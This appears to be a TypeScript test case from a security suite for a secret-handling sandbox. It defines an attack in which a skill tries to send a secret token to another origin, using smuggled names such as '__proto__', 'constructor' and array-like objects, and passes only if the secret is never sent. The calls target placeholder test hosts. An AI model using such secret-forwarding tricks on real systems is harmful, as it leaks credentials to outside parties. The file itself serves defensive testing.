import type { Attack } from "../attack.ts";
import { FETCH_EACH, fetching, onlyTheFirst } from "../network/fetch-each.ts";
import { all } from "../verify.ts";

const send = (secrets: object) => ["http://api.proof.test:{port}/v1/hello", { secrets }] as const;

export const takesASecretElsewhere: Attack = {
  name: "takes-a-secret-elsewhere",
  group: "network",
  about: "Has its secret sent to another origin than the one it is for, and by other names",
  skill: { body: FETCH_EACH },
  calls: fetching(
    send(["PROOF_TOKEN"]),
    ["http://rebound.names.proof.test:{port}/v1/hello", { secrets: ["PROOF_TOKEN"] }],
    send(["PATH"]),
    send(["__proto__"]),
    send(["constructor"]),
    send([["PROOF_TOKEN"]]),
    send({ 0: "PROOF_TOKEN", length: 1 }),
  ),
  expect: ["ok"],
  verify: all(onlyTheFirst, ({ visits, secret = "" }) => {
    const leaking = visits.find((each) => each.kind === "granted" && each.head.includes(secret));
    return leaking === undefined ? undefined : "the secret was sent to another origin";
  }),
};
